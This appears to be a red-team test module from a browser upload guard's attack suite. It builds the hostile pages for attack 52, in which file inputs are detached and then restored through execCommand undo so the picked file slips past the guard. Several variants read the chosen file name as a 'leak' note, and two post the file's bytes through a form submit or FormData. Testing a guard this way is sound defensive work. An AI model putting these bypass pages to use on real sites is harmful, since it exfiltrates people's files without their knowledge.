// Hostile pages for the fifty-second attack on the upload guard: the guard's
// look at an undo/redo's own input event (guard.js onHistory: the unknown
// files of the file inputs under the event's first target, the editing host
// Chromium names). Chromium's own picker is opened as in attacks 44-51's
// labeldeep (a span deep inside a DETACHED label holding a file input i,
// clicked in the person's click on "#open"); the label was taken out by
// execCommand('delete'), and undo puts the SAME nodes back into their old
// parent, wherever that parent now is. The page reads the name Chromium
// draws (attack 48's findsel). A name learnt goes up as a text note
// "leak-….txt". Served by server.mjs at /attack52-…; tests: attack52.test.mjs.

import { findSelection, leakNote, attackPages, browsersOwnPick, pickerWaysPage } from './uploads.mjs';

export const leak = leakNote;

export const findsel = (why) => findSelection(why);

/**
 * The label (i and the deep span) is put CONNECTED in a span p inside a contenteditable div ce (a wrapped insertion:
 * i is empty), then taken out by execCommand('delete') over a selection of the label (the undo step keeps p as the
 * parent to put it back in). `move` then moves p somewhere else (`setup` runs first). In the person's click the deep
 * span is clicked: Chromium's picker fills the detached i, unheard. On change: `before`, then execCommand('undo'),
 * whose input event Chromium fires at the undo step's recorded editing root(s), then `find` (findsel). `onopen`
 * runs in the person's click, after the picker is asked for (attack 53 opens its popup there).
 */
export const movePick = (why, { setup = '', move = '', before = '', after = "for (const e of document.querySelectorAll('[contenteditable]')) e.contentEditable = 'false';", undo = "document.execCommand('undo')", find = findsel(why), onopen = '' } = {}) => `
      ${leak}
      ${setup}
      const ce = document.createElement('div'); ce.contentEditable = 'true'; ce.style.width = '600px';
      const p = document.createElement('span');
      const l = document.createElement('label'); const i = document.createElement('input'); i.type = 'file'; i.name = 'photo';
      const x = document.createElement('input'); let t = x; x.addEventListener('click', () => { x.type = 'hidden'; }); t.textContent = 'x';
      l.append(i, x); p.append('a', l, 'b'); ce.append('c', p, 'd'); document.body.append(ce);
      ce.focus(); const r = document.createRange(); r.selectNode(l); const s = getSelection(); s.removeAllRanges(); s.addRange(r);
      const del = document.execCommand('delete');
      note('delete ' + del + ' l connected ' + l.isConnected + ' i in l ' + (i.parentNode === l) + ' l parent ' + (l.parentNode && l.parentNode.nodeName));
      ${move}
      window.addEventListener('input', (e) => note('input ' + e.inputType + ' at ' + (e.target && (e.target.id || e.target.nodeName))), true);
      i.addEventListener('change', () => { note('change'); try { ${before}; const u = ${undo}; note('undo ' + u + ' i connected ' + i.isConnected + ' in ce ' + ce.contains(i) + ' w ' + i.offsetWidth); ${after} getSelection().removeAllRanges(); i.style.width = '600px';
        ${find} } catch (e) { note('threw ' + e.name + ' ' + e.message); } });
      document.getElementById('open').addEventListener('click', () => { try { t.click(); } catch (e) { note('click threw ' + e.name); } ${onopen} });`;

const HTML_WAYS = {
  // p moved into a same-origin frame's editable body (adopted) before the pick: undo (the top document's) puts the
  // label back into p in the FRAME's document; the name read there with the frame's own find and selection.
  moveframe: movePick('moveframe', {
    move: "const fr = document.createElement('iframe'); fr.style.cssText = 'width:700px;height:80px'; document.body.append(fr); window.fr52 = fr; fr.contentDocument.body.contentEditable = 'true'; fr.contentDocument.body.append(p);",
    after: "window.fr52.contentDocument.body.contentEditable = 'false'; ce.contentEditable = 'false'; note('in frame ' + (i.ownerDocument === window.fr52.contentDocument) + ' connected ' + i.isConnected);",
    find: findsel('moveframe').replace('window.find(', 'window.fr52.contentWindow.find(').replace(/getSelection\(\)/g, 'window.fr52.contentWindow.getSelection()'),
  }),
  // p moved (a wrapped insertion; the label is out, so nothing to see) into a second contenteditable div ce2 before
  // the pick; undo puts the label back into p, in ce2, but its input event goes to ce (the step's root).
  moveparent: movePick('moveparent', { move: "const ce2 = document.createElement('div'); ce2.id = 'ce2'; ce2.contentEditable = 'true'; ce2.style.width = '600px'; document.body.append(ce2); ce2.append(p); ce.id = 'ce';" }),
  // p moved out to the body and made its own editing host (contenteditable itself) in the change listener.
  moveself: movePick('moveself', { before: "document.body.append(p); p.contentEditable = 'true'; ce.focus()" }),
  // moveparent, and ce taken out of the document before undo: the input event is fired at a detached ce.
  movedetach: movePick('movedetach', { move: "const ce2 = document.createElement('div'); ce2.contentEditable = 'true'; ce2.style.width = '600px'; document.body.append(ce2); ce2.append(p);", before: 'ce.focus(); ce.remove()' }),
  // p moved into a plain (non-editable) div inside a contenteditable=plaintext-only host.
  moveplain: movePick('moveplain', { move: "const ce2 = document.createElement('div'); ce2.setAttribute('contenteditable', 'plaintext-only'); ce2.style.width = '600px'; document.body.append(ce2); ce2.append(p);" }),
  // more than LOOK_AT_MOST (200000) elements under the editing host: fileInputsIn returns null, nothing is taken.
  manyelements: movePick('manyelements', { move: "const big = document.createElement('div'); big.style.display = 'none'; big.innerHTML = '<b></b>'.repeat(200100); ce.append(big); note('ce elements ' + ce.querySelectorAll('*').length);" }),
  // the bytes: moveparent with ce2 in a multipart form, posted by a native click on its submit button after undo.
  movebutton: movePick('movebutton', { move: "const f = document.createElement('form'); f.method = 'post'; f.enctype = 'multipart/form-data'; f.action = '/upload'; const ce2 = document.createElement('div'); ce2.contentEditable = 'true'; ce2.style.width = '600px'; f.append(ce2, Object.assign(document.createElement('button'), { type: 'submit', textContent: 'go' })); document.body.append(f); ce2.append(p);", after: "note('in form ' + (i.form === f)); f.querySelector('button').click();" }),
  // the bytes: moveparent, then new FormData(form) (a read point) after undo and fetch.
  moveformdata: movePick('moveformdata', { move: "const f = document.createElement('form'); const ce2 = document.createElement('div'); ce2.contentEditable = 'true'; f.append(ce2); document.body.append(f); ce2.append(p);", after: "const fd = new FormData(f); const v = fd.get('photo'); note('formdata ' + (v && v.name) + ' ' + (v && v.size)); if (v && v.size) send([v], 'moveformdata');" }),
  // findsel for reference (held by the survey).
  findsel: browsersOwnPick(`document.body.replaceChildren(i); i.style.width = '600px'; ${findsel('findsel')}`, { before: leak }),
};
const { names: PICKER_WAYS, page: picker } = pickerWaysPage(HTML_WAYS);
export { PICKER_WAYS };
export const attack52Page = attackPages(52, picker, {});
